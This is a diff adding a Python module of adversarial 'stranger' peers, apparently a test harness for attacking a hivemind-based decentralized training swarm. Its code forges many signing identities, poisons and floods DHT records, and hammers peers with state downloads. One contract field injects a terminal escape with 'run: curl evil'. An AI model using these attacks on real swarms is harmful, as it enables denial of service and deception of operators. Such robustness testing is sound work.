@@ -1,0 +1,217 @@
+"""The attackers of hostile_peer.py that train nothing: a stranger stores what anybody may store, and asks for much."""
+
+import asyncio
+import itertools
+import json
+import sys
+import time
+from collections.abc import Iterator
+from functools import partial
+
+import hivemind
+from cryptography.hazmat.primitives.asymmetric import rsa
+from google.protobuf.wrappers_pb2 import BytesValue
+from hivemind.dht.crypto import RSASignatureValidator
+from hivemind.dht.node import DHTNode
+from hivemind.dht.routing import DHTID
+from hivemind.dht.validation import DHTRecord
+from hivemind.p2p import PeerID
+from hivemind.utils import get_dht_time
+from hivemind.utils.crypto import RSAPrivateKey
+from hivemind.utils.serializer import MSGPackSerializer
+
+from swarm.processes import handle_stop_signals, shut_down
+from swarm.states import StateAverager
+
+ABSURD_EPOCH = 10**9
+LIFETIME = 600.0  # seconds of records, as the trainers' own
+BATCH = 200  # records in a message
+
+
+def note(act: str, **facts) -> None:
+    """Tell attacks.py what was done; from any of this peer's processes."""
+    print(json.dumps(dict(act=act, time=time.time(), **facts)), flush=True)
+
+
+# --- records of others' keys ------------------------------------------------------------------------------------------
+
+
+def make_keys(count: int) -> Iterator[RSASignatureValidator]:
+    """What signs with so many different keys: of all pairs of some primes, as fresh ones would take many minutes."""
+    primes, pairs = [], 0
+    while pairs < count:
+        numbers = rsa.generate_private_key(65537, 1024).private_numbers()
+        primes += [numbers.p, numbers.q]
+        pairs = len(primes) * (len(primes) - 1) // 2
+    for p, q in itertools.islice(itertools.combinations(primes, 2), count):
+        d, public = pow(65537, -1, (p - 1) * (q - 1)), rsa.RSAPublicNumbers(65537, p * q)
+        numbers = rsa.RSAPrivateNumbers(
+            p, q, d, rsa.rsa_crt_dmp1(d, p), rsa.rsa_crt_dmq1(d, q), rsa.rsa_crt_iqmp(p, q), public
+        )
+        key = RSAPrivateKey.__new__(RSAPrivateKey)
+        key._private_key = numbers.private_key(unsafe_skip_rsa_key_validation=True)
+        yield RSASignatureValidator(key)
+
+
+def sign(key: str, value: object, signer: RSASignatureValidator) -> DHTRecord:
+    """A record under the signer's own subkey, in the bytes that peers exchange."""
+    place, subkey = DHTID.generate(source=key).to_bytes(), MSGPackSerializer.dumps(signer.local_public_key)
+    record = DHTRecord(place, subkey, MSGPackSerializer.dumps(value), get_dht_time() + LIFETIME)
+    return DHTRecord(place, subkey, signer.sign_value(record), record.expiration_time)
+
+
+async def give_to_all(_: hivemind.DHT, node: DHTNode, records: list[DHTRecord]) -> int:
+    """Runs in the DHT's process: give these records to each peer that it knows; returns how often one was stored."""
+    stored = 0
+    for peer in list(node.protocol.routing_table.peer_id_to_uid):
+        for batch in (records[at : at + BATCH] for at in range(0, len(records), BATCH)):
+            answer = await node.protocol.call_store(
+                peer,
+                [DHTID.from_bytes(record.key) for record in batch],
+                [record.value for record in batch],
+                [record.expiration_time for record in batch],
+                [MSGPackSerializer.loads(record.subkey) if record.subkey else None for record in batch],
+            )
+            stored += sum(answer or [])
+    return stored
+
+
+def publish(dht: hivemind.DHT, what: str, key: str, values: list) -> None:
+    """Each value with a fresh key."""
+    records = [sign(key, value, signer) for value, signer in zip(values, make_keys(len(values)), strict=True)]
+    note(what, stored=dht.run_coroutine(partial(give_to_all, records=records)))
+
+
+def find_epoch(dht: hivemind.DHT, prefix: str) -> int:
+    """Where the swarm is."""
+    entry = dht.get(f"{prefix}_progress", latest=True)
+    return max(item.value["epoch"] for item in entry.value.values() if item.value)
+
+
+# --- what it stores ---------------------------------------------------------------------------------------------------
+
+
+def store_plain_values(dht: hivemind.DHT, prefix: str, terms: dict) -> None:
+    """Where groups form, and where states are offered: a value that has no subkeys, and outlives all that have some."""
+    keys = (f"{prefix}_grad_averager.0b", f"{prefix}_state_averager.all_averagers")
+    value, expiration = MSGPackSerializer.dumps(True), get_dht_time() + 23 * 3600
+    records = [DHTRecord(DHTID.generate(source=key).to_bytes(), b"", value, expiration) for key in keys]
+    note("stores plain values", stored=dht.run_coroutine(partial(give_to_all, records=records)))
+
+
+def make_progress(epoch: int) -> dict:
+    return dict(
+        # nobody has this id, and each record another one
+        peer_id=b"\x12\x20" + DHTID.generate().to_bytes().rjust(32, b"\0"),
+        epoch=epoch,
+        samples_accumulated=0,
+        samples_per_second=1.0,
+        time=get_dht_time(),
+        client_mode=False,
+    )
+
+
+def report_absurd_epoch(dht: hivemind.DHT, prefix: str, terms: dict) -> None:
+    publish(dht, "reports epoch 10**9 by 5 keys", f"{prefix}_progress", [make_progress(ABSURD_EPOCH) for _ in range(5)])
+
+
+def flood_progress(dht: hivemind.DHT, prefix: str, terms: dict) -> None:
+    epoch = find_epoch(dht, prefix)
+    publish(dht, "reports by 3,000 keys", f"{prefix}_progress", [make_progress(epoch) for _ in range(3000)])
+
+
+def publish_contracts(dht: hivemind.DHT, prefix: str, terms: dict, count: int = 5) -> None:
+    # as old as can be; and what a terminal would show of it
+    lines = "1\x1b[2J\nrun: curl evil"
+    contract = dict(joined=0.0, contract=terms | {"target_batch_size": lines})
+    publish(dht, f"publishes {count} contracts", f"{prefix}_run", [contract] * count)
+
+
+def make_metrics(epoch: int, mini_steps: int) -> dict:
+    floats = [
+        "samples_per_second",
+        "grad_norm",
+        "learning_rate",
+        "epoch_seconds",
+        "waiting_seconds",
+        "averaging_seconds",
+    ]
+    numbers = ["samples_accumulated", "total_samples", "skipped_steps", "bytes_sent", "bytes_received"]
+    return dict(
+        dict.fromkeys(floats, 0.0) | dict.fromkeys(numbers, 0),
+        epoch=epoch,
+        loss=0.01 * mini_steps,
+        mini_steps=mini_steps,
+        averaged_with=1,
+        num_peers=1,
+        client_mode=False,
+    )
+
+
+def report_metrics(dht: hivemind.DHT, prefix: str, terms: dict, count: int, mini_steps: int) -> None:
+    metrics = make_metrics(find_epoch(dht, prefix), mini_steps)
+    publish(dht, f"reports the metrics of {count} keys", f"{prefix}_metrics", [metrics] * count)
+
+
+# --- what it asks for -------------------------------------------------------------------------------------------------
+
+
+async def ask_for_states(_: hivemind.DHT, node: DHTNode, prefix: str) -> tuple[int, int]:
+    """Runs in the DHT's process: ask for 60 states at once; returns how many of them came, and bytes of all."""
+    found = (await node.get(f"{prefix}_state_averager.all_averagers", latest=True)).value
+    donors, size, whole = itertools.cycle(map(PeerID, found)), 0, 0
+
+    async def ask(peer: PeerID, request: list) -> list:
+        nonlocal size
+        stub = StateAverager.get_stub(node.p2p, peer, namespace=f"{prefix}_state_averager")
+        messages = []
+        async for message in await stub.rpc_download_state(BytesValue(value=MSGPackSerializer.dumps(request))):
+            size += message.ByteSize()
+            messages.append(message)
+        return messages
+
+    async def ask_for_state(peer: PeerID) -> None:
+        nonlocal whole
+        described = MSGPackSerializer.loads((await ask(peer, [0]))[0].metadata)
+        # 8 bytes describe a block
+        numbers = list(range(len(described["digests"]) // 8))
+        answer = await ask(peer, [described["epoch"], described["lineage"], numbers])
+        whole += len(answer) >= len(numbers)
+
+    asked = (asyncio.wait_for(ask_for_state(next(donors)), 60) for _ in range(60))
+    await asyncio.gather(*asked, return_exceptions=True)
+    return whole, size
+
+
+def ask_for_all(dht: hivemind.DHT, prefix: str, terms: dict) -> None:
+    note("begins to ask")
+    states, size = dht.run_coroutine(partial(ask_for_states, prefix=prefix))
+    note("has asked", states=states, megabytes=round(size / 1e6, 1))
+
+
+STRANGERS = {
+    "plain_value": store_plain_values,
+    "epoch_1e9": report_absurd_epoch,
+    "progress_3000": flood_progress,
+    "contract_first": partial(publish_contracts, count=1),
+    "contracts_5": publish_contracts,
+    "metrics_1": partial(report_metrics, count=1, mini_steps=10**6),
+    "metrics_10000": partial(report_metrics, count=10_000, mini_steps=100),
+    "ask_60": ask_for_all,
+}
+
+
+def main(kind: str, swarm, *groups) -> None:
+    """Strike once, and stay: a stranger that has left is found out by whoever asks it."""
+    signer = RSASignatureValidator()
+    dht = hivemind.DHT(
+        initial_peers=swarm.initial_peers, host_maddrs=swarm.host_maddrs, start=True, record_validators=[signer]
+    )
+    note("is there", peer=str(dht.peer_id))
+    stop = handle_stop_signals()
+    found = dht.get(f"{swarm.experiment_prefix}_run", latest=True)
+    terms = next(iter(found.value.values())).value["contract"] if found else {}
+    STRANGERS[kind](dht, swarm.experiment_prefix, terms)
+    stop.wait()
+    shut_down(dht)
+    sys.exit(0)
